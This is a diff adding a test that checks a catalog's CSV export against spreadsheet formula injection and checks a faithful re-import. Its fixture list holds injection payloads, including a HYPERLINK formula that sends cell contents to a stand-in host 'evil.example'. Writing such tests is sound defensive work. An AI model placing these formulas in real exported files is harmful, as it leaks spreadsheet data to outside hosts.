@@ -1,7 +1,8 @@
+import { parse } from 'csv-parse';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { startCatalog, type TestCatalog } from '../catalog.fixture.js';
 import { readPrice } from './cells.js';
-import { importInto } from './import.fixture.js';
+import { exportOf, graphOf, importInto } from './import.fixture.js';
 
 let t: TestCatalog;
 beforeAll(async () => {
@@ -73,3 +74,39 @@ test('the hint of a wrong price fits the currency', () => {
   expect(() => readPrice('Variant Price', '12.50', 'JPY')).toThrow('write digits alone, e.g. 1250');
   expect(() => readPrice('Variant Price', '12,50', 'EUR')).toThrow('write digits and a point, e.g. 12.50');
 });
+
+test('no cell of an export is a formula, and an import gives the texts back', async () => {
+  const formulas = ['=HYPERLINK("https://evil.example?"&A1,"open")', '+1 + cmd', '-2+3', '@SUM(A1)', "'=1", "''+x", '\uFF1D1'];
+  const number = ['-12.5', '+49', "'tis", 'a=b'];
+  for (const [index, name] of [...formulas, ...number].entries()) {
+    await t.createProduct({
+      sku: `formula-${index}`,
+      name,
+      description: name,
+      attributes: [
+        { name: 'Vendor', value: name },
+        { name: 'Tag', value: name.replaceAll(',', '') },
+      ],
+      variants: [
+        { sku: `formula-${index}-v`, price: { minor: 1, currency: 'EUR' }, options: [{ name: 'Cut', value: name }], barcode: name },
+      ],
+    });
+  }
+  await importInto(t, 'Handle,Title,=COL(1),Variant Price\nkept,Kept,=kept(),1\n');
+  const file = await exportOf(t);
+  const cells = (await csvCells(file)).flat();
+  expect(cells.filter((cell) => /^[=+\-@\t\r\n\uFF1D]/.test(cell) && !/^[+-]?[\d.]+$/.test(cell))).toEqual([]);
+  expect(cells).toEqual(expect.arrayContaining([`'${formulas[0]}`, "''=1", '-12.5', "'tis", "'=COL(1)", "'=kept()"]));
+  const empty = await startCatalog();
+  expect((await importInto(empty, file)).errors).toEqual([]);
+  expect(await graphOf(empty)).toEqual(await graphOf(t));
+  expect(await exportOf(empty)).toBe(file);
+  await empty.close();
+});
+
+/** Cells as another program reads them. */
+function csvCells(text: string): Promise<string[][]> {
+  return new Promise((resolve, reject) =>
+    parse(text, (error: Error | undefined, records: string[][]) => (error ? reject(error) : resolve(records))),
+  );
+}
